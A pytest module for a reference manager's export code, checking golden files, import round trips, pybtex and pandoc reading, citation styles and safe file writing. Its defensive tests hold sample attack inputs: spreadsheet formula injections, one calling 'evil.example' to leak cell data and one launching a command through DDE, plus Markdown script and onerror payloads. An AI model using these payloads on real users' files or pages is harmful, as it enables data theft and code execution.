"""Exports: golden files, round trips through our importers, and independent readers.

The golden files in `tests/data/export/` were read by a person before they
were accepted. After an intended change, regenerate them with
`REFDECK_UPDATE_GOLDEN=1 pytest tests/unit/test_export.py` and read the diff.
"""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
import unicodedata
from collections.abc import Sequence
from dataclasses import replace
from functools import cache
from pathlib import Path

import orjson
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.conftest import DATA, sample_store
from tui.export import EXPORTERS, ExportError, export_text
from tui.export.citations import STYLES, format_citation, format_references
from tui.export.keys import citation_keys
from tui.formats import parse_text
from tui.models import Author, Record

GOLDEN = DATA / "export"
# Records chosen for what they exercise: the seed; group authors and markup-like
# brackets; chemical brackets; accents; no DOI (book, report); LaTeX markup and math;
# `&` in a title; a chapter with editors; a conference paper; a "Jr."; a "van"/"dos"
# particle; Chinese names; a dataset.
GOLDEN_IDS = (
    "adomako2025acute",
    "hoffmann2023article",
    "chen2021synthesis",
    "gudmundsson2019accent",
    "barber2012bayesian",
    "burdakov2001new",
    "fritz2012test",
    "borissov2023production",
    "dimasi2016innovation",
    "gramfort2011functional",
    "barachant2010common",
    "hicks2001design",
    "acunzo2012systematic",
    "r2024gut",
    "pepearxiv",
)
SEED_DOI = "10.1016/j.molmed.2025.04.005"
APA = Path(__file__).parents[2] / "tui/export/styles/apa.csl"


@cache
def all_records() -> tuple[Record, ...]:
    """Every sample record, imported once for the module."""
    return tuple(sample_store().all())


def golden_records() -> list[Record]:
    by_id = {record.id: record for record in all_records()}
    return [by_id[id_] for id_ in GOLDEN_IDS]


def reimport(text: str, name: str) -> list[Record]:
    result = parse_text(text, name)
    assert not [issue for issue in result.issues if issue.severity == "error"], result.issues
    return result.records


def comparable(record: Record) -> dict[str, object]:
    """What a round trip must keep. Names compare as a reader sees them (display and sort
    name): a name with no given part is the same stored as a family or a literal name."""
    return {
        "title": record.title,
        "authors": [(a.display, a.sort_name) for a in record.authors],
        "year": record.year,
        "journal": record.journal,
        "volume": record.volume,
        "issue": record.issue,
        "pages": record.pages,
        "doi": record.doi,
    }


# ---------------------------------------------------------------------------
# Golden files


@pytest.mark.parametrize("format", [name for name in EXPORTERS if name != "text"])
def test_export_matches_golden_file(format: str) -> None:
    """Each format's output for the golden records is exactly the reviewed file."""
    exporter = EXPORTERS[format]
    text = export_text(golden_records(), format)
    path = GOLDEN / f"golden-{format}{exporter.extension}"
    if os.environ.get("REFDECK_UPDATE_GOLDEN"):
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(text.encode())
    assert text == path.read_bytes().decode()


@pytest.mark.parametrize("style", sorted(STYLES))
def test_citations_match_golden_file(style: str) -> None:
    """The reference list in every shipped style is exactly the reviewed file."""
    text = export_text(golden_records(), "text", style)
    path = GOLDEN / f"golden-{style}.txt"
    if os.environ.get("REFDECK_UPDATE_GOLDEN"):
        path.write_bytes(text.encode())
    assert text == path.read_bytes().decode()


@pytest.mark.parametrize("format", list(EXPORTERS))
def test_no_records_give_a_valid_empty_file(format: str) -> None:
    """Exporting an empty search result is not an error, and re-imports as nothing."""
    text = export_text([], format)
    if format in ("csl-json", "json"):
        assert orjson.loads(text) == []
    elif format == "csv":
        assert text.startswith("key,authors,year,title")
        assert text.count("\n") == 1
    else:
        assert len(text.strip().splitlines()) <= 1


def test_unknown_format_is_a_clear_error() -> None:
    with pytest.raises(ExportError, match="unknown export format 'docx'.*bibtex"):
        export_text([], "docx")


# ---------------------------------------------------------------------------
# Round trips through refdeck's own importers


@pytest.mark.parametrize(
    ("format", "file_name"),
    [("bibtex", "out.bib"), ("csl-json", "out.json"), ("json", "out.json"), ("ris", "out.ris")],
)
def test_round_trip_keeps_every_sample_record(format: str, file_name: str) -> None:
    """Export all 990 sample records and import them again: the same papers come back."""
    records = all_records()
    back = reimport(export_text(records, format), file_name)
    assert len(back) == len(records)
    checked = 0
    for before, after in zip(records, back, strict=True):
        expected, got = comparable(before), comparable(after)
        if format == "ris":
            if before.type == "book":
                # RIS has no tag for a book's container: T2 is the series, which
                # readers (ours included) keep aside, not as the journal.
                expected.pop("journal"), got.pop("journal")
            if any("," in a.display for a in before.authors):
                # A name holding commas (an affiliation a source put in the author list,
                # "Council on ..., Critical Care, ...") cannot be written unambiguously.
                continue
            if before.doi is None:
                # The RIS reader finds DOIs in URLs, which the original importer did not.
                expected.pop("doi"), got.pop("doi")
        assert got == expected, before.id
        checked += 1
    assert checked >= len(records) - 5


def test_bibtex_round_trip_keeps_user_visible_details() -> None:
    """Accents, particles, suffixes, groups, month and keywords survive BibTeX."""
    by_id = {r.id: r for r in golden_records()}
    picked = [by_id[i] for i in ("gudmundsson2019accent", "hicks2001design", "hoffmann2023article")]
    back = reimport(export_text(picked, "bibtex"), "out.bib")
    for before, after in zip(picked, back, strict=True):
        assert [a.to_doc() for a in after.authors] == [
            _as_bibtex_reads(a).to_doc() for a in before.authors
        ]
        assert after.date[:7] == before.date[:7] if before.date else after.date is None
        assert after.keywords == before.keywords
        assert after.abstract == before.abstract


def _as_bibtex_reads(author: Author) -> Author:
    """BibTeX has one way to say "one unsplittable name": a braced group."""
    if author.literal or not author.family:
        return Author(literal=author.literal or author.given)
    return author


_TRICKY_TEXT = (
    st.text(
        alphabet=st.characters(
            codec="utf-8",
            categories=("L", "N", "P", "S", "Zs"),
            include_characters="{}%#&$_~^\\\"'`-@,=",
        ),
        min_size=1,
        max_size=60,
    )
    .map(lambda s: unicodedata.normalize("NFC", " ".join(s.split())))
    .filter(bool)
)
"""Text as an import leaves it: whitespace collapsed, Unicode in NFC (which every importer applies)."""


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(title=_TRICKY_TEXT, family=_TRICKY_TEXT, given_name=_TRICKY_TEXT, journal=_TRICKY_TEXT)
def test_bibtex_round_trips_any_text(
    title: str, family: str, given_name: str, journal: str
) -> None:
    """Braces (paired or not), TeX specials, quotes, dashes and astral characters all come back.

    Names are checked as a person would write them: `and` inside a name is a BibTeX
    separator, and a comma-free family with spaces is a whole name either way.
    """
    record = Record(
        id="x",
        title=title,
        authors=(Author(family=family, given=given_name),),
        journal=journal,
        year=2020,
        type="article-journal",
    )
    (back,) = reimport(export_text([record], "bibtex"), "out.bib")
    assert back.title == title
    assert back.journal == journal
    (author,) = back.authors
    assert (author.family, author.given) == (family, given_name)


# ---------------------------------------------------------------------------
# Independent readers: pybtex (BibTeX's own rules) and pandoc (what writers use)


def test_pybtex_reads_every_entry_with_its_authors() -> None:
    """pybtex parses the BibTeX export of all samples: every key, every author."""
    from pybtex.database import parse_string

    records = all_records()
    database = parse_string(export_text(records, "bibtex"), "bibtex")
    keys = citation_keys(records)
    assert list(database.entries) == keys
    for record, key in zip(records, keys, strict=True):
        entry = database.entries[key]
        assert len(entry.persons.get("author", [])) == len(record.authors), key


def test_pybtex_formats_the_export_with_a_bibtex_style() -> None:
    """The `unsrt` BibTeX style, run by pybtex, renders titles, names and dashes."""
    from pybtex import format_from_string

    text = export_text(golden_records(), "bibtex")
    out = format_from_string(text, style="unsrt", output_backend="plaintext")
    assert "Joseph Adomako, Karina E Jiménez-Camacho" in out
    assert "Acute lymphoblastic leukemia relapse" in out
    assert "benzo[b]thiophene" in out
    assert "Guðmundsson" in out


def _pandoc() -> str:
    pandoc = shutil.which("pandoc")
    if pandoc is None:
        pytest.skip("pandoc is not installed (.ci/run installs it with apt-get)")
    return pandoc


@pytest.mark.parametrize(("format", "name"), [("bibtex", "refs.bib"), ("csl-json", "refs.json")])
def test_pandoc_citeproc_uses_the_export_as_bibliography(
    tmp_path: Path, format: str, name: str
) -> None:
    """`pandoc --citeproc --bibliography` finds every cited key and prints the references."""
    records = golden_records()
    keys = citation_keys(records)
    (tmp_path / name).write_text(export_text(records, format), encoding="utf-8")
    document = tmp_path / "paper.md"
    document.write_text("Cited: " + "; ".join(f"[@{key}]" for key in keys) + "\n")
    run = subprocess.run(
        [_pandoc(), "--citeproc", f"--bibliography={name}", "--csl", str(APA), "--wrap=none"]
        + ["-t", "plain", "paper.md"],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert run.returncode == 0, run.stderr
    assert "not found" not in run.stderr, run.stderr
    assert "Acute lymphoblastic leukemia relapse" in run.stdout
    assert "Guðmundsson" in run.stdout
    assert "benzo[b]thiophene" in run.stdout


# ---------------------------------------------------------------------------
# Keys


def test_citation_keys_are_unique_and_keep_a_colleague_s_key() -> None:
    base = Record(id="smith2020deep", title="Deep", year=2020, authors=(Author("Smith"),))
    records = [
        replace(base, key="Smith:2020"),  # a valid source key: kept
        replace(base, key="Smith:2020"),  # the same key again: the library id instead
        replace(base, key="bad key, with {braces}"),
        replace(base, id="smith2020deep", key=None),
        replace(base, id="", key=None),
    ]
    keys = citation_keys(records)
    assert keys[0] == "Smith:2020"
    assert keys[1] == "smith2020deep"
    assert len({k.lower() for k in keys}) == len(keys)
    assert all(k[0].isalpha() and " " not in k and "{" not in k for k in keys)


# ---------------------------------------------------------------------------
# CSV and Markdown: record text must not turn into formulas or markup

_FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1",
    "-1+2",
    "@SUM(A1)",
    "\t=1",
    "  =cmd|' /C calc'!A0",
]


def test_csv_cells_cannot_become_formulas() -> None:
    records = [
        Record(id=f"r{i}", title=payload, journal=payload, authors=(Author(literal=payload),))
        for i, payload in enumerate(_FORMULAS)
    ]
    rows = list(csv.DictReader(io.StringIO(export_text(records, "csv"))))
    assert len(rows) == len(_FORMULAS)
    for row, payload in zip(rows, _FORMULAS, strict=True):
        for column in ("title", "journal", "authors"):
            assert row[column] == "'" + payload


def test_csv_keeps_numbers_and_ordinary_text_as_they_are() -> None:
    (seed,) = [r for r in all_records() if r.doi == SEED_DOI]
    (row,) = csv.DictReader(io.StringIO(export_text([seed], "csv")))
    assert row["doi"] == SEED_DOI
    assert row["impact_factor"] == "12.8"
    assert row["jcr_quartile"] == "Q1"
    assert row["title"].startswith("Acute lymphoblastic")
    assert row["authors"].split("; ")[0] == "Joseph Adomako"


def test_markdown_shows_record_text_and_never_runs_it() -> None:
    """Links, HTML and emphasis in record text stay text when the Markdown is rendered."""
    from markdown_it import MarkdownIt

    record = Record(
        id="x",
        title="[click](javascript:alert(1)) <script>alert(2)</script> **bold** &amp; `code`",
        authors=(Author(literal="<img src=x onerror=alert(3)>"),),
        journal="_J_ | table",
        doi="10.1002/(SICI)1097-4636(199706)35:4<448::AID-JBM5>3.0.CO;2-X",
        year=1997,
    )
    html = MarkdownIt().render(export_text([record], "markdown"))
    assert "<script" not in html and "<img" not in html and "<strong>bold" not in html
    assert 'href="javascript' not in html
    assert "&lt;script&gt;alert(2)&lt;/script&gt;" in html
    assert "**bold** &amp;amp; `code`" in html
    assert (
        'href="https://doi.org/10.1002/%28SICI%291097-4636%28199706%2935:4%3C448::AID-JBM5%3E3.0.CO;2-X"'
        in html
    )


# ---------------------------------------------------------------------------
# Formatted citations


def _seed() -> Record:
    return next(r for r in all_records() if r.doi == SEED_DOI)


def test_citation_of_the_seed_in_apa_and_vancouver() -> None:
    assert format_citation(_seed(), "apa") == (
        "Adomako, J., Jiménez-Camacho, K. E., Correa-Lara, M. V. M., Núñez-Enriquez, J. C., "
        "& Schnoor, M. (2025). Acute lymphoblastic leukemia relapse: biomarkers, hopes, and "
        "challenges. Trends in Molecular Medicine. https://doi.org/10.1016/j.molmed.2025.04.005"
    )
    # Vancouver's "2025 May 23" needs the locale's date delimiter (citeproc-py drops it).
    assert format_citation(_seed(), "vancouver") == (
        "Adomako J, Jiménez-Camacho KE, Correa-Lara MVM, Núñez-Enriquez JC, Schnoor M. "
        "Acute lymphoblastic leukemia relapse: biomarkers, hopes, and challenges. "
        "Trends in molecular medicine. 2025 May 23. doi:10.1016/j.molmed.2025.04.005"
    )


def test_numbered_styles_number_a_list_but_not_a_single_copy() -> None:
    records = golden_records()[:3]
    listed = format_references(records, "vancouver")
    assert [entry.split(" ", 1)[0] for entry in listed] == ["1.", "2.", "3."]
    assert not format_citation(records[0], "vancouver")[0].isdigit()
    assert format_references(records, "ieee")[1].startswith("[2] ")


def test_a_csl_file_can_be_given_by_path(tmp_path: Path) -> None:
    style = tmp_path / "my-style.csl"
    shutil.copy(APA.with_name("nature.csl"), style)
    assert format_citation(_seed(), str(style)).startswith("Adomako, J., Jiménez-Camacho")


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (None, "unknown citation style 'mla'"),
        ("<style", "not a usable CSL style"),
        (
            '<style xmlns="http://purl.org/net/xbiblio/csl" version="1.0"><info/></style>',
            "has no bibliography",
        ),
    ],
)
def test_bad_styles_are_clear_errors(tmp_path: Path, content: str | None, message: str) -> None:
    style = "mla"
    if content is not None:
        path = tmp_path / "broken.csl"
        path.write_text(content)
        style = str(path)
    with pytest.raises(ExportError, match=message):
        format_citation(_seed(), style)


def test_every_sample_record_formats_in_every_style() -> None:
    """No record makes citeproc-py fail, and no reference comes out empty."""
    records: Sequence[Record] = all_records()[::7]
    for style in STYLES:
        entries = format_references(records, style)
        assert len(entries) == len(records)
        assert all(len(entry) > 10 for entry in entries), style


# ---------------------------------------------------------------------------
# Writing the file


def test_write_export_creates_a_readable_file_and_refuses_to_overwrite(tmp_path: Path) -> None:
    from tui.export.files import write_export

    target = tmp_path / "refs.bib"
    write_export(target, "first\n")
    assert target.read_text() == "first\n"
    assert target.stat().st_mode & 0o777 == 0o666 & ~_umask()
    with pytest.raises(ExportError, match="already exists"):
        write_export(target, "second\n")
    assert target.read_text() == "first\n"
    write_export(target, "second\n", overwrite=True)
    assert target.read_text() == "second\n"
    assert [p.name for p in tmp_path.iterdir()] == ["refs.bib"]


def _umask() -> int:
    mask = os.umask(0o022)
    os.umask(mask)
    return mask


def test_a_symlink_at_the_path_is_replaced_never_written_through(tmp_path: Path) -> None:
    """An export cannot be used to write into another file (hazard X2)."""
    from tui.export.files import exists, write_export

    precious = tmp_path / "bashrc"
    precious.write_text("export PATH=...\n")
    link = tmp_path / "refs.bib"
    link.symlink_to(precious)
    assert exists(link)
    write_export(link, "@article{x,}\n", overwrite=True)
    assert precious.read_text() == "export PATH=...\n"
    assert not link.is_symlink() and link.read_text() == "@article{x,}\n"


def test_a_full_disk_leaves_the_previous_file_and_no_litter(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import errno

    from tui.export.files import write_export

    target = tmp_path / "refs.bib"
    target.write_text("previous export\n")

    def full(*_: object) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    with pytest.raises(ExportError, match=r"refs\.bib: the disk is full; nothing was written"):
        write_export(target, "new\n", overwrite=True)
    assert target.read_text() == "previous export\n"
    assert [p.name for p in tmp_path.iterdir()] == ["refs.bib"]


@pytest.mark.parametrize(
    ("path", "message"),
    [
        ("", "no file name given"),
        ("a\0b.bib", "cannot contain a NUL"),
    ],
)
def test_unusable_names_are_refused(path: str, message: str) -> None:
    from tui.export.files import resolve

    with pytest.raises(ExportError, match=message):
        resolve(path)


def test_read_only_and_missing_folders_are_named(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from tui.export.files import problem_with, resolve

    assert resolve("~/refs.bib") == Path.home() / "refs.bib"
    assert problem_with(tmp_path / "refs.bib") is None
    missing = tmp_path / "gone" / "refs.bib"
    assert (
        problem_with(missing)
        == f"cannot export to {missing}: the folder {missing.parent} does not exist"
    )
    # Tests may run as root, for whom every folder is writable: ask os.access to say no.
    monkeypatch.setattr(os, "access", lambda *_: False)
    assert problem_with(tmp_path / "refs.bib") == (
        f"cannot export to {tmp_path / 'refs.bib'}: the folder {tmp_path} is read-only"
    )


def test_what_the_copy_keys_copy() -> None:
    """`b` copies BibTeX entries; `c` copies references one a line, without list numbers."""
    from tui.export import copy_text_of

    records = golden_records()[:3]
    assert copy_text_of(records, "bibtex") == export_text(records, "bibtex")
    lines = copy_text_of(records, "citation", "vancouver").splitlines()
    assert len(lines) == 3
    assert lines[0].startswith("Adomako J, Jiménez-Camacho KE")
    assert not any(line[0].isdigit() for line in lines)
